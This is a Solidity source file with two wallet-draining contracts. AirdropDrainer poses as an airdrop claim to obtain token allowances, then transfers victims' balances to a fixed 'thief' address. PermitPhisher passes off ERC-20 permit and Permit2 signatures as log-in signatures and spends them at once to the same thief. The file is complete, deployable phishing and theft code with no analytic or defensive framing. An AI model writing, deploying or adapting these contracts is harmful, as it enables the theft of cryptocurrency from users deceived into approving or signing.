// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ITaken {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external;
}

interface ITakenByPermit2 {
    struct TokenPermissions {
        address token;
        uint256 amount;
    }

    struct PermitTransferFrom {
        TokenPermissions permitted;
        uint256 nonce;
        uint256 deadline;
    }

    struct SignatureTransferDetails {
        address to;
        uint256 requestedAmount;
    }

    function permitTransferFrom(
        PermitTransferFrom calldata permit,
        SignatureTransferDetails calldata details,
        address owner,
        bytes calldata signature
    ) external;
}

/// Asks for an allowance "to claim an airdrop", then takes all that it reaches, now and at every later call.
contract AirdropDrainer {
    address public immutable thief;

    event Claimed(address indexed account);

    constructor(address thief_) {
        thief = thief_;
    }

    function claim() external payable {
        emit Claimed(msg.sender);
    }

    function drain(ITaken token, address victim) external {
        uint256 reach = token.allowance(victim, address(this));
        uint256 held = token.balanceOf(victim);
        token.transferFrom(victim, thief, reach < held ? reach : held);
    }
}

/// Gets a signature "to log in", which is a permit, and spends it in the same transaction.
contract PermitPhisher {
    address public immutable thief;
    ITakenByPermit2 public immutable permit2;

    constructor(address thief_, ITakenByPermit2 permit2_) {
        thief = thief_;
        permit2 = permit2_;
    }

    function logIn(ITaken token, address victim, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        token.permit(victim, address(this), value, deadline, v, r, s);
        uint256 held = token.balanceOf(victim);
        token.transferFrom(victim, thief, value < held ? value : held);
    }

    function logInWithPermit2(
        ITakenByPermit2.PermitTransferFrom calldata permit,
        address victim,
        bytes calldata signature
    ) external {
        permit2.permitTransferFrom(
            permit,
            ITakenByPermit2.SignatureTransferDetails(thief, permit.permitted.amount),
            victim,
            signature
        );
    }
}
